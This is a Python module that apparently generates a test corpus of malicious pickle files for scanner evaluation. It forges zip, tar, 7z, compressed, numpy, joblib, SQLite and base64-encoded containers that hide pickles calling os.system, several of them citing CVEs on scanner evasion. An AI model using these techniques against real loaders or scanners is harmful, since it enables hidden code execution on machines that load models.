"""Where a pickle hides: archives, good ones and forged ones, compressions, other pickles, texts.

The archives are put together here byte by byte where a library would refuse to write them.
"""
import base64
import binascii
import bz2
import gzip
import io
import lzma
import shutil
import sqlite3
import struct
import subprocess
import tarfile
import zipfile
import zlib

from assemble import MARKER, Piece, SHELL, SYSTEM, build, call, ref, steps, stream, value
from gadgets import torch_legacy
from technique import Family

family = Family("container")
add = family.add

PAYLOAD = stream(call(SYSTEM, SHELL))
# What torch.load takes in a member data.pkl: protocol 2, and no memo.
TORCH = b"\x80\x02cposix\nsystem\nX" + struct.pack("<I", len(SHELL)) + SHELL.encode() + b"\x85R."
HARMLESS = stream({"weights": [0.0, 1.0]})
TIME = (2020, 1, 1, 0, 0, 0)


# ----------------------------------------------------------------------------
# Zip, written by hand
# ----------------------------------------------------------------------------


class Zip:
    """Local headers, a central directory and an end record, each of which may say otherwise."""

    def __init__(self):
        self.body = bytearray()
        self.central = bytearray()
        self.count = 0

    def add(self, name, data, *, method=0, flags=0, crc=None, central_name=None,
            central_flags=None, hidden=False, size=None, central_offset=None):
        packed = data
        if method == 8:
            packer = zlib.compressobj(9, zlib.DEFLATED, -15)
            packed = packer.compress(data) + packer.flush()
        crc = zlib.crc32(data) if crc is None else crc
        size = len(data) if size is None else size
        name = name.encode()
        offset = len(self.body) if central_offset is None else central_offset
        fields = struct.pack("<HHLLL", 0, 0x5021, crc, len(packed), size)
        self.body += b"PK\3\4" + struct.pack("<HHH", 20, flags, method) + fields
        self.body += struct.pack("<HH", len(name), 0) + name + packed
        if hidden:
            return self
        shown = name if central_name is None else central_name.encode()
        self.central += b"PK\1\2" + struct.pack(
            "<HHHH", 20, 20, flags if central_flags is None else central_flags, method) + fields
        self.central += struct.pack("<HHHHHLL", len(shown), 0, 0, 0, 0, 0, offset) + shown
        self.count += 1
        return self

    def bytes(self, comment=b"", shift=0):
        end = struct.pack("<HHHHLLH", 0, 0, self.count, self.count, len(self.central),
                          len(self.body) + shift, len(comment))
        return bytes(self.body + self.central) + b"PK\5\6" + end + comment


def torch_zip(data=TORCH, folder="archive", **more):
    archive = Zip().add(f"{folder}/data.pkl", data, **more)
    return archive.add(f"{folder}/version", b"3\n").add(f"{folder}/data/0", bytes(16))


def zips():
    add("torch-zip", "a torch checkpoint", torch_zip().bytes(), suffix=".pt", loader="zip")
    add("torch-zip-bin", "a torch checkpoint called .bin", torch_zip().bytes(), suffix=".bin",
        loader="torch", needs=["torch"])
    add("torch-zip-other-folder", "a torch checkpoint whose folder has another name",
        torch_zip(folder="x/../model").bytes(), suffix=".pth", loader="zip")
    add("torch-zip-deflated", "a torch checkpoint with compressed members",
        torch_zip(method=8).bytes(), suffix=".pt", loader="zip")
    add("torch-zip-renamed-member", "the pickle is called weights.txt",
        Zip().add("archive/weights.txt", PAYLOAD).bytes(), suffix=".pt", loader="none",
        executes=False)
    add("torch-zip-bad-crc", "the member's CRC is wrong: zipfile refuses it, torch does not",
        torch_zip(crc=0x12345678).bytes(), suffix=".pt", loader="torch", needs=["torch"],
        source="CVE-2025-10156")
    add("torch-zip-flag-encrypted", "flags in the central directory say encrypted, and it is not",
        torch_zip(central_flags=1).bytes(), suffix=".pt", loader="torch", needs=["torch"],
        source="CVE-2025-1945", executes=False)
    add("torch-zip-local-flag-encrypted", "flags in the local header say encrypted, and it is not",
        torch_zip(flags=1, central_flags=0).bytes(), suffix=".pt", loader="zip",
        source="CVE-2025-1945")
    for bit in (5, 6):
        add(f"torch-zip-flag-{bit}", f"flag bit {bit} is set, which zipfile refuses",
            torch_zip(central_flags=1 << bit).bytes(), suffix=".pt", loader="torch",
            needs=["torch"], source="CVE-2025-1945", executes=False)
    add("torch-zip-name-mismatch", "the local header has another name than the directory",
        Zip().add("archive/data.txt", TORCH, central_name="archive/data.pkl")
        .add("archive/version", b"3\n").bytes(), suffix=".pt", loader="torch", needs=["torch"],
        source="CVE-2025-1944")
    add("torch-zip-name-mismatch-back", "the directory has another name than the local header",
        Zip().add("archive/data.pkl", PAYLOAD, central_name="archive/data.txt").bytes(),
        suffix=".pt", loader="none", executes=False)
    add("torch-zip-duplicate", "two members have one name",
        Zip().add("archive/data.pkl", HARMLESS).add("archive/data.pkl", PAYLOAD).bytes(),
        suffix=".pt", loader="zip")
    add("torch-zip-hidden-member", "a member that the directory does not list",
        Zip().add("archive/data.pkl", PAYLOAD, hidden=True).add("archive/readme", b"hello").bytes(),
        suffix=".pt", loader="none", executes=False)
    prefix = b"#!/bin/sh\n" * 10
    add("zip-with-prefix", "an archive behind other bytes, as self-extracting ones are",
        prefix + torch_zip().bytes(), suffix=".pt", loader="zip")
    add("zip-behind-pickle", "a harmless pickle, and behind it an archive",
        HARMLESS + torch_zip().bytes(), suffix=".pkl", loader="zip")
    add("pickle-before-zip", "a pickle that is not harmless before an archive that is",
        PAYLOAD + Zip().add("a.txt", b"text").bytes(), suffix=".zip", loader="pickle")
    add("zip-with-comment", "a comment behind the end record",
        torch_zip().bytes(comment=b"c" * 300), suffix=".pt", loader="zip")
    add("zip-in-comment", "the comment has an end record of its own, for an empty archive",
        torch_zip().bytes(comment=Zip().bytes()[-22:] + b"x"), suffix=".pt", loader="zip",
        executes=False)
    add("zip-two-ends", "two archives in a row: which one counts?",
        Zip().add("a.pkl", HARMLESS).bytes() + torch_zip().bytes(), suffix=".zip", loader="zip")
    add("zip-size-lie", "the directory says the member is shorter than it is",
        torch_zip(size=len(TORCH)).bytes(), suffix=".pt", loader="zip")
    add("zip-in-zip", "an archive in an archive",
        Zip().add("inner.zip", Zip().add("model.pkl", PAYLOAD).bytes()).bytes(), suffix=".zip",
        loader="zip-zip")
    add("zip-of-gzip", "a compressed pickle in an archive",
        Zip().add("model.pkl.gz", gzip.compress(PAYLOAD, mtime=0)).bytes(), suffix=".zip",
        loader="none", executes=False)
    add("zip-encrypted", "an encrypted member: nobody can say what it is",
        Zip().add("model.pkl", bytes(range(100)), flags=1).bytes(), suffix=".zip", loader="none",
        executes=False)
    add("zip-unknown-method", "a member compressed by a method that there is not",
        Zip().add("model.pkl", PAYLOAD, method=77).bytes(), suffix=".zip", loader="none",
        executes=False)
    add("zip-truncated", "an archive whose end is missing",
        torch_zip().bytes()[:-60], suffix=".pt", loader="none", executes=False)
    add("zip-wrong-suffix", "an archive called .png", torch_zip().bytes(), suffix=".png",
        loader="zip")
    for name, method in (("bzip2", zipfile.ZIP_BZIP2), ("lzma", zipfile.ZIP_LZMA)):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", method) as archive:
            archive.writestr(zipfile.ZipInfo("model.pkl", TIME), PAYLOAD, method)
        add(f"zip-{name}", f"a member compressed by {name}", buffer.getvalue(), suffix=".zip",
            loader="zip")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        with archive.open(zipfile.ZipInfo("model.pkl", TIME), "w", force_zip64=True) as member:
            member.write(PAYLOAD)
    add("zip64", "a member with sizes of eight bytes", buffer.getvalue(), suffix=".zip",
        loader="zip")


# ----------------------------------------------------------------------------
# Other archives
# ----------------------------------------------------------------------------


def tar(members, mode="w"):
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode, format=tarfile.USTAR_FORMAT) as archive:
        for name, data in members:
            information = tarfile.TarInfo(name)
            information.size = len(data)
            archive.addfile(information, io.BytesIO(data))
    return buffer.getvalue()


def seven_zip(name, data):
    """A 7z archive of one stored member."""
    def number(value):
        return bytes([value]) if value < 0x80 else bytes([0x80 | value >> 8, value & 255])

    streams = b"\x06" + number(0) + number(1) + b"\x09" + number(len(data)) + b"\x00"
    folders = b"\x07\x0b" + number(1) + b"\x00" + number(1) + b"\x01\x00" + b"\x0c" \
        + number(len(data)) + b"\x00"
    names = name.encode("utf-16-le") + b"\0\0"
    files = b"\x05" + number(1) + b"\x11" + number(len(names) + 1) + b"\x00" + names + b"\x00"
    header = b"\x01\x04" + streams + folders + b"\x00" + files + b"\x00"
    start = struct.pack("<QQL", len(data), len(header), zlib.crc32(header))
    return (b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<L", zlib.crc32(start)) + start + data
            + header)


def archives():
    add("tar", "a pickle in a tar", tar([("readme", b"hello"), ("model.pkl", PAYLOAD)]),
        suffix=".tar", loader="tar")
    add("tar-gzip", "a pickle in a compressed tar",
        gzip.compress(tar([("model.pkl", PAYLOAD)]), mtime=0), suffix=".tar.gz", loader="tar")
    add("tar-xz", "a pickle in a tar compressed by xz",
        lzma.compress(tar([("model.pkl", PAYLOAD)])), suffix=".tar.xz", loader="tar")
    add("tar-in-zip", "a pickle in a tar in a zip",
        Zip().add("inner.tar", tar([("model.pkl", PAYLOAD)])).bytes(), suffix=".zip",
        loader="none", executes=False)
    add("tar-bad-checksum", "a tar with a wrong checksum, and a pickle in it",
        forged_tar(), suffix=".tar", loader="none", executes=False)
    add("torch-legacy-stream", "what torch wrote before it wrote archives: pickles in a row",
        torch_legacy(), suffix=".pt", loader="torch", needs=["torch"])
    add("torch-legacy-wrong-magic", "the same, and the first number is another one",
        stream(1, 2) + torch_legacy(), suffix=".pt", loader="pickle-all")
    add("torch-legacy-tar", "what torch wrote before that: a tar of pickles",
        tar([("pickle", PAYLOAD), ("storages", stream(0)), ("tensors", stream(0))]), suffix=".pt",
        loader="torch", needs=["torch"], executes=False)
    add("7z", "an archive that only 7z opens", seven_zip("model.pkl", PAYLOAD), suffix=".7z",
        loader="none", executes=False)
    add("7z-wrong-suffix", "the same, called .pkl", seven_zip("model.pkl", PAYLOAD),
        loader="none", executes=False)


def forged_tar():
    data = bytearray(tar([("model.pkl", PAYLOAD)]))
    data[148:154] = b"000001"
    return bytes(data)


def tool(*command):
    """What a compressor that Python does not have makes of the payload."""
    if not shutil.which(command[0]):
        raise SystemExit(f"the corpus needs {command[0]}")
    return subprocess.run(command, input=PAYLOAD, stdout=subprocess.PIPE, check=True).stdout


def compressions():
    packed = gzip.compress(PAYLOAD, mtime=0)
    add("gzip", "a pickle in gzip", packed, suffix=".pkl.gz", loader="gzip")
    add("gzip-wrong-suffix", "a pickle in gzip, called .pkl", packed, loader="gzip")
    add("gzip-second-member", "gzip of two members, the pickle begins in the first",
        gzip.compress(PAYLOAD[:20], mtime=0) + gzip.compress(PAYLOAD[20:], mtime=0),
        suffix=".gz", loader="gzip")
    add("gzip-empty-member-first", "gzip whose first member is empty",
        gzip.compress(b"", mtime=0) + packed, suffix=".gz", loader="gzip")
    add("gzip-twice", "gzip in gzip", gzip.compress(packed, mtime=0), suffix=".gz.gz",
        loader="gzip-gzip")
    add("gzip-xz", "xz in gzip", gzip.compress(lzma.compress(PAYLOAD), mtime=0),
        suffix=".xz.gz", loader="gzip-xz")
    add("gzip-truncated", "gzip whose end is missing", packed[:-6], suffix=".gz", loader="none",
        executes=False)
    add("gzip-bad-crc", "gzip with a wrong checksum", packed[:-8] + b"\1\2\3\4" + packed[-4:],
        suffix=".gz", loader="none", executes=False)
    add("bz2", "a pickle in bzip2", bz2.compress(PAYLOAD), suffix=".bz2", loader="bz2")
    add("xz", "a pickle in xz", lzma.compress(PAYLOAD), suffix=".xz", loader="xz")
    add("lzma-alone", "a pickle in lzma's older format",
        lzma.compress(PAYLOAD, lzma.FORMAT_ALONE), suffix=".lzma", loader="xz")
    add("zlib", "a pickle in zlib, as joblib compresses", zlib.compress(PAYLOAD), suffix=".z",
        loader="zlib")
    add("zlib-best", "a pickle in zlib, level 9", zlib.compress(PAYLOAD, 9), loader="zlib")
    add("zstd", "a pickle in zstd", tool("zstd", "-cq", "--no-check"), suffix=".zst",
        loader="zstd")
    add("lz4", "a pickle in lz4", tool("lz4", "-cq"), suffix=".lz4", loader="lz4")


# ----------------------------------------------------------------------------
# numpy and joblib
# ----------------------------------------------------------------------------


def npy(data=PAYLOAD, shape="(1,)", version=1, dtype="|O"):
    header = f"{{'descr': '{dtype}', 'fortran_order': False, 'shape': {shape}, }}"
    header += " " * (63 - (len(header) + (10 if version == 1 else 12)) % 64) + "\n"
    size = struct.pack("<H" if version == 1 else "<I", len(header))
    return b"\x93NUMPY" + bytes([version, 0]) + size + header.encode() + data


def numpys():
    add("npy-objects", "an array of objects: its file has a pickle behind the header", npy(),
        suffix=".npy", loader="numpy", needs=["numpy"])
    add("npy-objects-version-3", "the same in version 3 of the format", npy(version=3),
        suffix=".npy", loader="numpy", needs=["numpy"])
    add("npy-objects-field", "an array of records, one field is an object",
        npy().replace(b"'|O'", b"[('a','<i4'),('b','|O')]"), suffix=".npy", loader="none",
        executes=False)
    add("npy-objects-wrong-suffix", "an array of objects called .txt", npy(), suffix=".txt",
        loader="numpy", needs=["numpy"])
    add("npy-number-then-pickle", "an array of numbers, and a pickle behind it",
        npy(bytes(8) + PAYLOAD, dtype="<i8"), suffix=".npy", loader="none", executes=False)
    add("npz-objects", "an archive of arrays, one has objects",
        Zip().add("numbers.npy", npy(bytes(8), dtype="<i8")).add("objects.npy", npy()).bytes(),
        suffix=".npz", loader="numpy", needs=["numpy"])
    add("npz-renamed-member", "the member with the objects has another name",
        Zip().add("a", npy()).bytes(), suffix=".npz", loader="numpy", needs=["numpy"])
    add("npz-pickle-member", "an archive of arrays, one member is a pickle",
        Zip().add("a.npy", npy(bytes(8), dtype="<i8")).add("b.pkl", PAYLOAD).bytes(),
        suffix=".npz", loader="zip")


def joblib_array(after, dtype="f8", order="<", flags=0, content=bytes(16)):
    """A list of a joblib array, whose bytes stand in the middle of the pickle, and `after`."""
    wrapper = build(call(ref("copyreg", "_reconstructor"),
                         ref("joblib.numpy_pickle", "NumpyArrayWrapper"),
                         ref("builtins", "object"), None),
                    {"subclass": ref("numpy", "ndarray"), "shape": (2,), "order": "C",
                     "dtype": build(call(ref("numpy", "dtype"), dtype, False, True),
                                    (3, order, None, None, None, -1, -1, flags)),
                     "allow_mmap": True, "numpy_array_alignment_bytes": None})
    return b"\x80\x03]" + wrapper + content + b"a" + value(after) + b"a."


def joblibs():
    add("joblib-inline-array", "the bytes of an array in the middle, the call behind them",
        joblib_array(call(SYSTEM, SHELL)), suffix=".joblib", loader="joblib",
        needs=["joblib", "numpy"])
    add("joblib-inline-array-stop", "the bytes of an array look like the end of a pickle",
        joblib_array(call(SYSTEM, SHELL)).replace(bytes(16), b"N." * 8), suffix=".joblib",
        loader="joblib", needs=["joblib", "numpy"])
    add("joblib-zlib", "the same, compressed by zlib",
        zlib.compress(joblib_array(call(SYSTEM, SHELL)), 3), suffix=".joblib", loader="joblib",
        needs=["joblib", "numpy"])
    add("joblib-object-array", "joblib keeps an array of objects as a pickle in the middle",
        joblib_array(None, "O8", "|", 63, PAYLOAD), suffix=".joblib", loader="joblib",
        needs=["joblib", "numpy"])
    add("joblib-raw-size-lie", "the array's shape says more bytes than there are",
        joblib_array(call(SYSTEM, SHELL)).replace(b"K\x02", b"J\xff\xff\xff\x7f", 1),
        suffix=".joblib", loader="none", executes=False)


# ----------------------------------------------------------------------------
# In other pickles, and in texts
# ----------------------------------------------------------------------------


def hidden():
    text = base64.b64encode(PAYLOAD).decode()
    add("in-bytes", "a pickle in bytes", stream({"payload": PAYLOAD}), loader="inner")
    add("in-bytearray", "a pickle in a bytearray",
        b"\x80\x05" + steps(Piece(b"}\x8c\x07payload\x96" + struct.pack("<Q", len(PAYLOAD))
                                  + PAYLOAD + b"s")) + b".", loader="inner")
    add("in-str", "a pickle in a str", stream({"payload": PAYLOAD.decode("latin-1")}),
        loader="inner-latin1")
    add("in-base64", "a pickle in base64", stream({"payload": text}), loader="inner-base64")
    add("in-base64-bytes", "a pickle in base64, as bytes",
        stream({"payload": text.encode()}), loader="inner-base64")
    add("in-base64-lines", "a pickle in base64 in lines",
        stream({"payload": base64.encodebytes(PAYLOAD * 1).decode()}), loader="inner-base64")
    add("in-hex", "a pickle in hexadecimal", stream({"payload": PAYLOAD.hex()}),
        loader="inner-hex")
    add("in-hex-upper", "a pickle in hexadecimal, large letters",
        stream({"payload": PAYLOAD.hex().upper()}), loader="inner-hex")
    add("in-zlib", "a compressed pickle in bytes", stream({"payload": zlib.compress(PAYLOAD)}),
        loader="inner-zlib")
    add("in-bytes-protocol-0", "a pickle without a header in bytes",
        stream({"payload": b"cos\nsystem\n(S'" + SHELL.encode() + b"'\ntR."}), loader="inner")
    add("in-bytes-padded", "a pickle behind other bytes in bytes",
        stream({"payload": b"\0" * 64 + PAYLOAD}), loader="none", executes=False)
    add("in-zip-in-bytes", "an archive in bytes, and a pickle in it",
        stream({"payload": Zip().add("model.pkl", PAYLOAD).bytes()}), loader="none",
        executes=False)
    for suffix in (".txt", ".json", ".safetensors", ".h5", ".onnx"):
        add(f"suffix-{suffix[1:]}", f"a pickle called {suffix}", PAYLOAD, suffix=suffix)
    add("suffix-none", "a pickle without a suffix", PAYLOAD, suffix="")
    add("suffix-double", "a pickle called .pkl.png", PAYLOAD, suffix=".pkl.png")
    add("text-base64", "a text file that is a pickle in base64", text.encode(), suffix=".txt",
        loader="text-base64")
    add("text-hex", "a text file that is a pickle in hexadecimal", binascii.hexlify(PAYLOAD),
        suffix=".txt", loader="text-hex")


# Spelled as in the tutorials: nothing in it says that it is a pickle.
SPELLED = {"global": f"cos\nsystem\n(S'{SHELL}'\ntR.", "inst": f"(S'{SHELL}'\nios\nsystem\n.",
           "obj": f"(cos\nsystem\nS'{SHELL}'\no.", "protocol-1": "cos\nsystem\nq\0(X"
           f"{chr(len(SHELL))}\0\0\0{SHELL}q\x01tq\x02Rq\x03."}


def behind():
    """Where a pickle is not looked for: behind other bytes, and inside of text."""
    header = b"A header of the program's own, with lines.\nIts pickle is next."
    header += b"\n" * (64 - len(header))
    for name, spelled in SPELLED.items():
        add(f"behind-header-{name}", f"a pickle without a header behind 64 bytes: {name}",
            header + spelled.encode("latin-1"), suffix=".dat", loader="behind")
        add(f"in-bytes-behind-{name}", f"the same in bytes, behind others: {name}",
            stream({"payload": b"kept|" + spelled.encode("latin-1")}), loader="inner-behind")
    add("behind-header-declared", "a pickle with a header behind 64 bytes", header + PAYLOAD,
        suffix=".dat", loader="behind")
    add("behind-picture", "a pickle without a header behind the beginning of a picture",
        b"\x89PNG\r\n\x1a\n".ljust(64, b"\0") + SPELLED["global"].encode(), suffix=".png",
        loader="behind")
    for name, payload in (("spelled", SPELLED["global"].encode()), ("declared", PAYLOAD)):
        add(f"sqlite-{name}", f"a pickle in a database of SQLite, {name}", sqlite_of(payload),
            suffix=".db", loader="sqlite")
    add("in-str-behind", "a pickle in a str, behind other text",
        stream({"payload": "kept|" + PAYLOAD.decode("latin-1")}), loader="inner-latin1-behind")
    add("in-str-behind-spelled", "a pickle without a header in a str, behind other text",
        stream({"payload": "kept|" + SPELLED["global"]}), loader="inner-latin1-behind")


def encoded():
    text = base64.b64encode(PAYLOAD).decode()
    add("in-base64-twice", "a pickle in base64 in base64",
        stream({"payload": base64.b64encode(text.encode()).decode()}),
        loader="inner-base64-twice")
    add("in-base64-indented", "a pickle in base64 behind blanks",
        stream({"payload": "\n    " + text}), loader="inner-base64")
    add("in-data-address", "a pickle in base64 in a data: address",
        stream({"payload": "data:application/octet-stream;base64," + text}),
        loader="inner-data-address")
    harmless = base64.b64encode(stream({"a": 1})).decode()
    add("in-base64-second", "a pickle in base64 behind a harmless one",
        stream({"payload": f"data:{harmless}," + text}), loader="inner-data-address")
    add("text-json", "a pickle in base64 in a JSON file",
        ('{"kind": "classifier", "model": "%s"}' % text).encode(), suffix=".json",
        loader="text-json")
    add("text-yaml", "a pickle in base64 behind other text in a file",
        f"kind: classifier\nmodel: {text}\n".encode(), suffix=".yaml",
        loader="text-base64-behind")
    add("text-base64-twice", "a text file that is a pickle in base64 in base64",
        base64.b64encode(text.encode()), suffix=".txt", loader="text-base64-twice")
    add("text-latin1", "a pickle that was written as text, in UTF-8",
        PAYLOAD.decode("latin-1").encode(), suffix=".txt", loader="text-latin1")
    for bits in ("16", "32"):
        add(f"text-utf{bits}", f"a pickle that was written as text, in UTF-{bits}",
            PAYLOAD.decode("latin-1").encode(f"utf-{bits}"), suffix=".txt",
            loader=f"text-utf{bits}")
    add("text-utf16-base64", "a pickle in base64, in UTF-16", text.encode("utf-16"),
        suffix=".txt", loader="text-utf16-base64")
    for bits in (9, 12):
        packer = zlib.compressobj(9, zlib.DEFLATED, bits)
        add(f"zlib-window-{bits}", f"zlib with a window of {bits} bits",
            packer.compress(PAYLOAD) + packer.flush(), suffix=".z", loader="zlib")


def sqlite_of(payload):
    """The database; what says which release wrote it is taken out."""
    base = sqlite3.connect(":memory:")
    base.execute("CREATE TABLE kept (name TEXT, data BLOB)")
    base.execute("INSERT INTO kept VALUES (?, ?)", ("model", payload))
    base.commit()
    data = bytearray(base.serialize())
    data[96:100] = bytes(4)
    return data


# ----------------------------------------------------------------------------
# What some techniques find beside their file
# ----------------------------------------------------------------------------


def beside_files():
    script = f"open('{MARKER}', 'a').close()\n\n\nclass Run:\n    pass\n"
    return {
        "brinery_payload.py": script.encode(),
        "brinery_package/__init__.py": script.encode(),
        "brinery_package/inner.py": b"class Run:\n    pass\n",
        "brinery_package/hubconf.py": script.encode() + b"\n\ndef x():\n    pass\n",
        "brinery_modules.zip": Zip().add("brinery_zipped.py", script.encode()).bytes(),
        "brinery-files.zip": Zip().add(MARKER, b"unpacked\n").bytes(),
        "brinery-files.tar": tar([(MARKER, b"unpacked\n")]),
        "brinery.pth": f"import os; open('{MARKER}', 'a').close()\n".encode(),
        "brinery-logging.ini": (
            "[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=\n"
            "[logger_root]\nhandlers=h\n[handler_h]\nclass=NullHandler\n"
            f"args=(open('{MARKER}', 'a').close(),)[1:]\n").encode(),
        "brinery-doctest.txt": f">>> open('{MARKER}', 'a').close()\n".encode(),
        "brinery-inner.pkl": PAYLOAD,
        "brinery-inner.pt": torch_legacy(),
        "brinery-objects.npy": npy(),
    }


zips()
archives()
compressions()
numpys()
joblibs()
hidden()
behind()
encoded()
